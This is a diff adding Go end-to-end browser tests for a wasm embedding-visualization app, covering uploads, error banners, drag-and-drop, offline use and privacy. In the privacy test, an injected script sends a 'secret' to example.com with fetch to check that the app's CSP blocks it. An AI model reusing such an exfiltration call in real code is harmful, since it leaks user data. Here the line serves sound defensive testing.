@@ -1,0 +1,312 @@
+package e2e
+
+import (
+	"image"
+	"net/url"
+	"os"
+	"path"
+	"path/filepath"
+	"slices"
+	"sort"
+	"strconv"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/input"
+	"github.com/chromedp/chromedp"
+)
+
+// The canvas area the tests inspect: above the toolbar and status line.
+var plotArea = image.Rect(0, 0, 1280, 700)
+
+func TestFirstOpenDrawsTheDemo(t *testing.T) {
+	s := startServer(t)
+	ctx := newBrowser(t, s)
+	st := open(t, ctx, s)
+	if st.Phase != "ready" || st.Points != 1797 || st.Dims != 64 || st.Method != "pca" {
+		t.Fatalf("demo status %+v, want ready 1797×64 by pca", st)
+	}
+	if len(st.Diagnostics) != 0 {
+		t.Errorf("the demo reports diagnostics: %+v", st.Diagnostics)
+	}
+	img := screenshot(t, ctx)
+	nonBG, colours := pixelStats(img, plotArea, background)
+	// 1797 discs of radius 3.5 px cover far more than 5,000 pixels; ten label colours.
+	if nonBG < 5000 {
+		t.Errorf("only %d non-background pixels in the plot area", nonBG)
+	}
+	if n := frequentColours(colours, 150); n < 8 {
+		t.Errorf("only %d colours cover ≥150 pixels each; want the 10 digit classes to show", n)
+	}
+	loading, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.getElementById('loading') !== null`))
+	if err != nil || loading {
+		t.Errorf("the loading screen is still there after the first frame (err %v)", err)
+	}
+}
+
+func TestUploadTensorAndMetadata(t *testing.T) {
+	s := startServer(t)
+	ctx := newBrowser(t, s)
+	open(t, ctx, s)
+	cases := []struct {
+		name  string
+		files []string
+		n, d  int
+	}{
+		{"wine TSV pair", []string{"sklearn-wine-tsv/vectors.tsv", "sklearn-wine-tsv/metadata.tsv"}, 178, 13},
+		{"breast cancer TSV pair", []string{"sklearn-breast-cancer-tsv/vectors.tsv", "sklearn-breast-cancer-tsv/metadata.tsv"}, 569, 30},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			var paths []string
+			for _, f := range tc.files {
+				paths = append(paths, sharedData(t, f))
+			}
+			upload(t, ctx, paths...)
+			st := waitStatus(t, ctx, 60*time.Second, tc.name+" to be ready", func(st status) bool {
+				return (st.Phase == "ready" && st.Points == tc.n) || st.Phase == "error"
+			})
+			if st.Phase != "ready" || st.Points != tc.n || st.Dims != tc.d {
+				t.Fatalf("status %+v, want ready %d×%d", st, tc.n, tc.d)
+			}
+			nonBG, _ := pixelStats(screenshot(t, ctx), plotArea, background)
+			if nonBG < 500 {
+				t.Errorf("only %d non-background pixels after loading %d points", nonBG, tc.n)
+			}
+		})
+	}
+}
+
+func TestMismatchedPairShowsBanner(t *testing.T) {
+	s := startServer(t)
+	ctx := newBrowser(t, s)
+	open(t, ctx, s)
+	before := screenshot(t, ctx)
+	// 178 wine vectors with 569 breast-cancer labels.
+	upload(t, ctx, sharedData(t, "sklearn-wine-tsv/vectors.tsv"), sharedData(t, "sklearn-breast-cancer-tsv/metadata.tsv"))
+	st := waitStatus(t, ctx, 60*time.Second, "the error", func(st status) bool { return st.Phase == "error" })
+	if !slices.Contains(st.codes(), "count-mismatch") {
+		t.Errorf("diagnostic codes %v lack count-mismatch", st.codes())
+	}
+	for _, d := range st.Diagnostics {
+		if d.Code == "count-mismatch" && (d.Severity != "error" || d.Message == "") {
+			t.Errorf("count-mismatch diagnostic %+v: want an error with a message", d)
+		}
+	}
+	if st.Points != 0 {
+		t.Errorf("status claims %d points for data that cannot be drawn", st.Points)
+	}
+	after := screenshot(t, ctx)
+	// The banner sits at the top left; red error boxes (#8b1a1a).
+	banner := image.Rect(12, 12, 900, 60)
+	red := 0
+	changed := 0
+	for y := banner.Min.Y; y < banner.Max.Y; y++ {
+		for x := banner.Min.X; x < banner.Max.X; x++ {
+			r, g, b, _ := after.At(x, y).RGBA()
+			if r>>8 > 0x70 && g>>8 < 0x40 && b>>8 < 0x40 {
+				red++
+			}
+			r0, g0, b0, _ := before.At(x, y).RGBA()
+			if r != r0 || g != g0 || b != b0 {
+				changed++
+			}
+		}
+	}
+	if red < 5000 || changed < 5000 {
+		t.Errorf("banner area: %d red pixels, %d changed; want an error banner drawn", red, changed)
+	}
+	// Nothing else: below the banner boxes the plot is empty.
+	below := image.Rect(0, 260, 1280, 700)
+	if nonBG, _ := pixelStats(after, below, background); nonBG > 200 {
+		t.Errorf("%d non-background pixels below the banner: points drawn for broken data?", nonBG)
+	}
+}
+
+func TestScriptDropWithoutFilesKeepsAppAlive(t *testing.T) {
+	s := startServer(t)
+	ctx := newBrowser(t, s)
+	open(t, ctx, s)
+	// A drop event made by a script, with an empty DataTransfer, on the canvas
+	// (Ebiten's own handler would kill the Go program on it), then one with text.
+	if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`(() => {
+		const target = document.querySelector('canvas') || document.body;
+		const empty = new DataTransfer();
+		target.dispatchEvent(new DragEvent('drop', {dataTransfer: empty, bubbles: true, cancelable: true}));
+		const text = new DataTransfer();
+		text.setData('text/plain', 'hello');
+		target.dispatchEvent(new DragEvent('drop', {dataTransfer: text, bubbles: true, cancelable: true}));
+	})()`)); err != nil {
+		t.Fatal(err)
+	}
+	st := waitStatus(t, ctx, 20*time.Second, "the empty drop to be reported", func(st status) bool {
+		return slices.Contains(st.codes(), "no-files")
+	})
+	if st.Phase != "ready" || st.Points != 1797 {
+		t.Errorf("after an empty drop the status is %+v; want the demo still ready", st)
+	}
+	// The program still runs: a real file pair still loads.
+	upload(t, ctx, sharedData(t, "sklearn-wine-tsv/vectors.tsv"), sharedData(t, "sklearn-wine-tsv/metadata.tsv"))
+	waitStatus(t, ctx, 60*time.Second, "the wine data after the empty drop", func(st status) bool {
+		return st.Phase == "ready" && st.Points == 178
+	})
+}
+
+func TestRealDragAndDropOfFiles(t *testing.T) {
+	s := startServer(t)
+	ctx := newBrowser(t, s)
+	open(t, ctx, s)
+	files := []string{sharedData(t, "sklearn-wine-tsv/vectors.tsv"), sharedData(t, "sklearn-wine-tsv/metadata.tsv")}
+	data := &input.DragData{Items: []*input.DragDataItem{}, Files: files, DragOperationsMask: 1}
+	for _, typ := range []input.DispatchDragEventType{input.DispatchDragEventTypeDragEnter, input.DispatchDragEventTypeDragOver, input.DispatchDragEventTypeDrop} {
+		if _, err := chromedp.Call(ctx, input.DispatchDragEvent, input.DispatchDragEventParams{Type: typ, X: 640, Y: 400, Data: data}); err != nil {
+			t.Fatalf("drag event %s: %v", typ, err)
+		}
+	}
+	waitStatus(t, ctx, 60*time.Second, "the dropped wine data", func(st status) bool {
+		return st.Phase == "ready" && st.Points == 178 && st.Dims == 13
+	})
+}
+
+// builtFiles lists the file names in the build output.
+func builtFiles(t *testing.T, dist string) map[string]bool {
+	t.Helper()
+	entries, err := os.ReadDir(dist)
+	if err != nil {
+		t.Fatal(err)
+	}
+	m := map[string]bool{"/": true}
+	for _, e := range entries {
+		m["/"+e.Name()] = true
+	}
+	return m
+}
+
+func TestPrivacyOnlyOwnStaticFiles(t *testing.T) {
+	s := startServer(t)
+	ctx := newBrowser(t, s)
+	start := s.count()
+	open(t, ctx, s)
+	// Let the service worker finish precaching, so its requests are in the log too.
+	if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](
+		`navigator.serviceWorker.ready.then(() => new Promise(r => setTimeout(r, 1500)))`, chromedp.EvalAwaitPromise)); err != nil {
+		t.Fatal(err)
+	}
+	files := builtFiles(t, s.dist)
+	reqs := s.requests(start)
+	if len(reqs) == 0 {
+		t.Fatal("the server saw no request at all: the proxy is not in the path")
+	}
+	for _, r := range reqs {
+		u, err := url.Parse(r.URL)
+		if err != nil {
+			t.Errorf("unparsable request URL %q", r.URL)
+			continue
+		}
+		if r.Method != "GET" || u.Host != s.host || !r.Served || !files[path.Clean(u.Path)] && u.Path != "/" {
+			t.Errorf("request %s %s is not a same-origin GET of a built file", r.Method, r.URL)
+		}
+	}
+	t.Logf("%d requests, all same-origin GETs of built files", len(reqs))
+
+	// After a file is chosen: no request at all.
+	mark := s.count()
+	upload(t, ctx, sharedData(t, "sklearn-wine-tsv/vectors.tsv"), sharedData(t, "sklearn-wine-tsv/metadata.tsv"))
+	waitStatus(t, ctx, 60*time.Second, "the wine data", func(st status) bool { return st.Phase == "ready" && st.Points == 178 })
+	time.Sleep(time.Second)
+	if after := s.requests(mark); len(after) > 0 {
+		t.Errorf("%d requests after a file was chosen, first %s %s", len(after), after[0].Method, after[0].URL)
+	}
+
+	// The CSP is live: an injected cross-origin fetch is blocked by it, not by the network.
+	mark = s.count()
+	res, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](`new Promise((resolve) => {
+		const seen = [];
+		document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective + ' ' + e.blockedURI));
+		fetch('http://example.com/collect?data=secret', {mode: 'no-cors'})
+			.then(() => 'fetched', (e) => 'rejected: ' + e)
+			.then((outcome) => setTimeout(() => resolve([outcome, ...seen]), 300));
+	})`, chromedp.EvalAwaitPromise))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(res) < 2 || res[0] == "fetched" || !slices.ContainsFunc(res[1:], func(v string) bool { return len(v) >= 11 && v[:11] == "connect-src" }) {
+		t.Errorf("cross-origin fetch outcome %q: want it rejected with a connect-src CSP violation", res)
+	}
+	for _, r := range s.requests(mark) {
+		t.Errorf("the injected fetch reached the network: %s %s", r.Method, r.URL)
+	}
+}
+
+func TestOfflineAfterFirstVisit(t *testing.T) {
+	s := startServer(t)
+	ctx := newBrowser(t, s)
+	open(t, ctx, s)
+	// Wait until the service worker has installed (precached) and controls the page.
+	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`navigator.serviceWorker.ready.then(() => new Promise((resolve) => {
+		const check = () => navigator.serviceWorker.controller ? resolve(true) : setTimeout(check, 100);
+		check();
+	}))`, chromedp.EvalAwaitPromise)); err != nil {
+		t.Fatalf("service worker never took control: %v", err)
+	}
+	s.offline.Store(true)
+	mark := s.count()
+	if err := chromedp.Do(ctx, chromedp.Reload()); err != nil {
+		t.Fatalf("reload while offline: %v", err)
+	}
+	st := waitStatus(t, ctx, 90*time.Second, "the demo, offline", func(st status) bool {
+		return (st.Phase == "ready" && st.Points == 1797) || st.Phase == "error"
+	})
+	if st.Phase != "ready" {
+		t.Fatalf("offline reload status %+v", st)
+	}
+	upload(t, ctx, sharedData(t, "sklearn-wine-tsv/vectors.tsv"), sharedData(t, "sklearn-wine-tsv/metadata.tsv"))
+	waitStatus(t, ctx, 60*time.Second, "a file loaded offline", func(st status) bool { return st.Phase == "ready" && st.Points == 178 })
+	for _, r := range s.requests(mark) {
+		if r.Served {
+			t.Errorf("served while offline: %s", r.URL)
+		}
+	}
+}
+
+// wasmGzipLimit bounds the gzip-compressed wasm. Measured 2026-11-26: see the README.
+const wasmGzipLimit = 5_600_000
+
+func TestCompressedWasmSize(t *testing.T) {
+	matches, err := filepath.Glob(filepath.Join(distDir(t), "main.*.wasm.gz"))
+	if err != nil || len(matches) != 1 {
+		t.Fatalf("want exactly one main.*.wasm.gz in the build output, got %v (%v)", matches, err)
+	}
+	st, err := os.Stat(matches[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("gzip wasm: %d bytes (limit %d)", st.Size(), wasmGzipLimit)
+	if st.Size() > wasmGzipLimit {
+		t.Errorf("gzip wasm is %d bytes, over the %d limit", st.Size(), wasmGzipLimit)
+	}
+}
+
+// BenchmarkFirstFrame measures, in headless Chromium on localhost, the time
+// from navigation start to the first drawn frame (performance.now() when the
+// loading screen is removed), over b.N fresh browsers. It reports the median.
+func BenchmarkFirstFrame(b *testing.B) {
+	var ms []float64
+	for i := 0; i < b.N; i++ {
+		s := startServer(b)
+		ctx := newBrowser(b, s)
+		open(b, ctx, s)
+		v, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.dataset.firstFrameMs || ''`))
+		if err != nil || v == "" {
+			b.Fatalf("no first-frame time recorded (%v)", err)
+		}
+		f, err := strconv.ParseFloat(v, 64)
+		if err != nil {
+			b.Fatal(err)
+		}
+		ms = append(ms, f)
+		b.Logf("run %d: %.0f ms", i+1, f)
+	}
+	sort.Float64s(ms)
+	b.ReportMetric(ms[len(ms)/2], "ms-to-first-frame")
+}
